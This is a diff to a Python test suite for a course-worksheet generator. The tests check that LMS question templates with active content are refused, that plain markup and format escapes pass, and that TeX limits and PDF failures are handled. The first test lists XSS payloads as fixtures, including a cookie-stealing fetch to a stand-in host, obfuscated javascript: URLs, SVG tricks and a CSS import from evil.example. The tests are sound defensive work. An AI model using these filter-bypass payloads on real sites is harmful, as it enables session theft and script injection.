@@ -84,11 +84,20 @@ def test_a_course_template_may_not_put_scripts_into_students_pages(tmp_path):
     for name, export, payload in (
             ("moodle/question.html.jinja", "--moodle", "<script>fetch('//x/'+document.cookie)</script>"),
             ("prairielearn/question.html.jinja", "--prairielearn", '<img src=x onerror="alert(1)">'),
-            ("prairielearn/question.html.jinja", "--prairielearn", '<a href="JavaScript:alert(1)">hint</a>')):
+            ("prairielearn/question.html.jinja", "--prairielearn", '<a href="JavaScript:alert(1)">hint</a>'),
+            # a second reviewer's ways past a pattern over the text: read as a browser reads them
+            ("prairielearn/question.html.jinja", "--prairielearn", '<img src="x"onerror="alert(1)">'),
+            ("moodle/question.html.jinja", "--moodle", "<svg/onload=alert(document.cookie)>"),
+            ("prairielearn/question.html.jinja", "--prairielearn", '<img alt=">" src=x onerror=alert(1)>'),
+            ("prairielearn/question.html.jinja", "--prairielearn", '<a href="jav&#x61;script:alert(1)">x</a>'),
+            ("prairielearn/question.html.jinja", "--prairielearn", '<a href="java&#9;script:alert(1)">x</a>'),
+            ("prairielearn/question.html.jinja", "--prairielearn", '<svg><set attributeName="href" to="jav&#97;script:alert(1)"/></svg>'),
+            ("prairielearn/question.html.jinja", "--prairielearn", "<style>@import url(//evil.example/x.css)</style>")):
         text = (BUILT_IN / name).read_text(encoding="utf-8") + payload + "\n"
-        folder = _course(tmp_path / name.replace("/", "-") / payload[:6], name, text)
-        target = tmp_path / f"export-{len(payload)}"
-        result, out = _sheet(tmp_path / name.replace("/", "-") / payload[:6], folder, export, str(target))
+        where = tmp_path / name.replace("/", "-") / str(abs(hash(payload)))
+        folder = _course(where, name, text)
+        target = where / "export"
+        result, out = _sheet(where, folder, export, str(target))
         assert result.exit_code == 2 and "active content" in result.output, (name, result.output)
         assert not target.exists() and not out.exists()
 
@@ -138,3 +147,45 @@ def test_an_unknown_key_of_almost_two_megabytes_is_not_echoed_whole(tmp_path):  
     spec.write_text('"' + "k" * 1_900_000 + '" = 1\n', encoding="utf-8")
     result = CliRunner().invoke(main, ["derive", str(spec)])
     assert result.exit_code == 2 and "unknown key" in result.output and len(result.output) < 2000
+
+
+def test_plain_markup_and_escaped_format_braces_are_taken(tmp_path):
+    """What a course writes to lay out a page (a table, a style, a link, a comparison in text) and a format
+    string's escapes ("{{…}}", "%%") are not refused."""
+    from symbp.render.markup_check import active_markup
+    from symbp.render.sandbox import _check_format
+
+    for html in ('<table><tr><td style="color: #333">a < b</td></tr></table>', '<a href="https://example.org/x">x</a>',
+                 '<img src="data:image/png;base64,AAAA">', "<pl-number-input answers-name='z'></pl-number-input>"):
+        assert active_markup(html) is None, html
+    for text in ("{{units: {}}}", "100%%*", "%5.2f", "{:>8}"):
+        _check_format(text)
+
+
+def test_a_tex_file_limit_below_symbp_s_own_is_kept(tmp_path, requires_tex):
+    """`ulimit -f` of 256 MB failed where the user's own hard limit is lower (exit 5 on every PDF): theirs is kept."""
+    script = ("import resource, sys, runpy\n"
+              "resource.setrlimit(resource.RLIMIT_FSIZE, (100 << 20, 100 << 20))\n"
+              "sys.argv = ['symbp'] + sys.argv[1:]\n"
+              "runpy.run_module('symbp', run_name='__main__')\n")
+    done = subprocess.run([sys.executable, "-c", script, "derive", "--example", "graph-circuit", "-o", str(tmp_path / "c.pdf")],
+                          capture_output=True, text=True, timeout=240, env={"PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin"})
+    assert done.returncode == 0 and (tmp_path / "c.pdf").exists(), done.stderr[-500:]
+
+
+def test_a_class_report_whose_pdf_fails_leaves_no_earlier_pdf(tmp_path, requires_tex):
+    out = tmp_path / "sheet"
+    assert CliRunner().invoke(main, ["worksheet", "--example", "graph-circuit", "-n", "1", "--seed", "2", "-o", str(out)]).exit_code == 0
+    folder = tmp_path / "subs"
+    folder.mkdir()
+    (folder / "ann.toml").write_text('variant = 1\n"f" = "0.5"\n', encoding="utf-8")
+    marked = tmp_path / "marked"
+    args = ["check", "--key", str(out / "answers.json"), str(folder), "--out", str(marked), "--pdf"]
+    CliRunner().invoke(main, args)
+    assert (marked / "ann.pdf").exists()
+    name = "tex/check.tex.jinja"
+    course = _course(tmp_path / "bad", name, (BUILT_IN / name).read_text(encoding="utf-8").replace(
+        "\\begin{document}", "\\begin{document}\\undefinedcommandofacourse", 1))
+    result = CliRunner().invoke(main, args + ["--templates", str(course)])
+    assert result.exit_code == 5, result.output
+    assert (marked / "ann.tex").exists() and not (marked / "ann.pdf").exists()
